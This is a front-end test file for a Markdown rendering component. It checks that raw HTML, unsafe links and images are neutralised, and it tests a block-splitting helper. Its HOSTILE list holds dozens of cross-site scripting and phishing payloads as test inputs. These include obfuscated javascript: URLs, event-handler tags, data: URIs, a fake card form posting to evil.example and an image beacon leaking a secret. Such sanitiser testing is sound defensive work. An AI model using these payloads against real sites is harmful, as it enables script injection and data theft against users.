import { screen } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { renderApp } from "@/testing/render-app";
import Markdown from "./markdown";
import { splitBlocks } from "./markdown-blocks";

const ALLOWED_ELEMENTS =
  "div p span bdi a strong em del code pre blockquote ul ol li h3 h4 h5 h6 hr br table thead tbody tr th td sup section input".split(
    " ",
  );
const ALLOWED_ATTRIBUTES =
  "class href target rel title id tabindex type checked disabled start dir aria-describedby aria-label data-footnotes data-footnote-ref data-footnote-backref".split(
    " ",
  );

describe("Markdown", () => {
  it("shows bold text and lists", async () => {
    await renderApp(<Markdown text={"Take **two**:\n\n- one\n- other"} />);
    expect(screen.getByText("two").tagName).toBe("STRONG");
    expect(screen.getAllByRole("listitem")).toHaveLength(2);
  });

  it("never renders raw HTML", async () => {
    const { container } = await renderApp(
      <Markdown text={'<img src=x onerror="alert(1)"> <script>alert(1)</script> <b>bold</b>'} />,
    );
    expect(container.querySelector("img, script, b")).toBeNull();
  });

  it("links to our pages and to named hosts", async () => {
    await renderApp(<Markdown text="[own](/help/returns) [web](https://example.com/a)" />);
    expect(screen.getByRole("link", { name: "own" })).toHaveAttribute("href", "/help/returns");
    expect(screen.getByRole("link", { name: "own" })).not.toHaveAttribute("target");
    const elsewhere = screen.getByRole("link", { name: "web" });
    expect(elsewhere).toHaveAttribute("href", "https://example.com/a");
    expect(elsewhere).toHaveAttribute("rel", "noopener noreferrer nofollow");
  });

  it("shows the address of any other link as text", async () => {
    const { container } = await renderApp(
      <Markdown text="[Your bank](https://evil.example/login) and https://evil.example, [us](mailto:help@evil.example)" />,
    );
    expect(screen.queryByRole("link")).toBeNull();
    expect(container).toHaveTextContent(
      "Your bank (https://evil.example/login) and https://evil.example, us (help@evil.example)",
    );
  });

  it("shows only the words of a link that is no address", async () => {
    const { container } = await renderApp(<Markdown text="[bad](javascript:alert(1)) [x](#top)" />);
    expect(screen.queryByRole("link")).toBeNull();
    expect(container.textContent?.trim()).toBe("bad x");
  });

  it("shows a picture's words in place of the picture", async () => {
    const { container } = await renderApp(
      <Markdown text="![a cat](https://example.com/cat.png)" />,
    );
    expect(container.querySelector("img")).toBeNull();
    expect(screen.getByText("a cat")).toBeInTheDocument();
  });
});

const HOSTILE = [
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](  javascript:alert(1) )",
  "[a](java\u0000script:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](&#x6A;&#x61;vascript&colon;alert(1))",
  "[a](javascript&Tab;:alert(1))",
  "[a](<java\tscript:alert(1)>)",
  "[a](\\u006aavascript:alert(1))",
  "[a](%6Aavascript:alert(1))",
  "[a](\u0001javascript:alert(1))",
  "[a](vbscript:msgbox(1))",
  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[a](blob:https://example.com/x)",
  "[a](file:///etc/passwd)",
  "[a](//evil.example)",
  "[a](/\\evil.example)",
  "[a](</\t/evil.example>)",
  "[a](/&Tab;/evil.example)",
  "[a](https:evil.example)",
  "[a](https://example.com@evil.example/)",
  "[a](https://example.com.evil.example/)",
  "[a](https://example.com:8443/)",
  "[a](http://example.com/)",
  "[a][1]\n\n[1]: javascript:alert(1)",
  "[a]\n\n[a]: <data:text/html,x> 'title'",
  "[1]: https://evil.example\n[a][1]",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "<https://evil.example/>",
  "https://evil.example/?q=card",
  "www.evil.example",
  "someone@evil.example",
  "![a](https://evil.example/p.png?q=secret)",
  "![a](data:image/svg+xml;base64,PHN2Zy8+)",
  "![a][1]\n\n[1]: https://evil.example/p.png",
  "[![a](https://evil.example/p.png)](https://evil.example/)",
  "[![a](x)](javascript:alert(1))",
  "![a](<javascript:alert(1)>)",
  '[a](https://example.com/ "x" onclick="alert(1)")',
  '[a](https://example.com/ "\\" onmouseover=\\"alert(1)")',
  "<script>alert(1)</script>",
  "<ScRiPt\n>alert(1)</sCrIpT\n>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>a</a>",
  "<a href='https://evil.example'>a</a>",
  "<form action='https://evil.example'><input name=card><button>Pay</button></form>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<link rel=stylesheet href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  "<object data=https://evil.example></object><embed src=https://evil.example>",
  "<video src=https://evil.example autoplay></video><audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)> ?>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "**<img src=x onerror=alert(1)>**",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  "> - 1. **[a](javascript:alert(1))**",
  "| a |\n|---|\n| [a](javascript:alert(1)) <img src=x onerror=alert(1)> |",
  "# [a](javascript:alert(1))",
  "- [x] <input type=image src=x onerror=alert(1)>",
  "a[^1]\n\n[^1]: [a](javascript:alert(1)) <script>alert(1)</script>",
  "[a](javascript:alert(1)\n\n[b](javascript:alert(1))",
  "[[a](https://evil.example)](javascript:alert(1))",
  "$\\href{javascript:alert(1)}{a}$",
];

describe("hostile Markdown", () => {
  it.each(HOSTILE)("does nothing with %j", async (text) => {
    const { container } = await renderApp(<Markdown text={`Before.\n\n${text}`} />);
    expect(screen.getByText("Before.")).toBeVisible();
    for (const element of container.querySelectorAll("*")) {
      expect(ALLOWED_ELEMENTS).toContain(element.tagName.toLowerCase());
      for (const { name } of element.attributes) expect(ALLOWED_ATTRIBUTES).toContain(name);
    }
    for (const link of container.querySelectorAll("a")) {
      expect(["https://example.com", window.location.origin]).toContain(new URL(link.href).origin);
    }
  });
});

describe("splitBlocks", () => {
  it("cuts at blank lines", () => {
    expect(splitBlocks("one\ntwo\n\n\nthree")).toEqual(["one\ntwo", "three"]);
  });

  it("keeps fenced code whole", () => {
    expect(splitBlocks("```\na\n\nb\n```\n\nafter")).toEqual(["```\na\n\nb\n```", "after"]);
  });

  it("keeps a loose list together", () => {
    expect(splitBlocks("- a\n\n- b\n\n  more\n\nafter")).toEqual(["- a\n\n- b\n\n  more", "after"]);
  });

  it("cuts a very long list between its items", () => {
    const items = Array.from({ length: 120 }, (_, i) => `${i + 1}. item\n   more of it`);
    const blocks = splitBlocks(items.join("\n"));
    expect(blocks).toHaveLength(5);
    expect(blocks.join("\n")).toBe(items.join("\n"));
    for (const block of blocks) expect(block).toMatch(/^\d+\. item/);
  });

  it("gives nothing for nothing", () => expect(splitBlocks("\n\n")).toEqual([]));
});
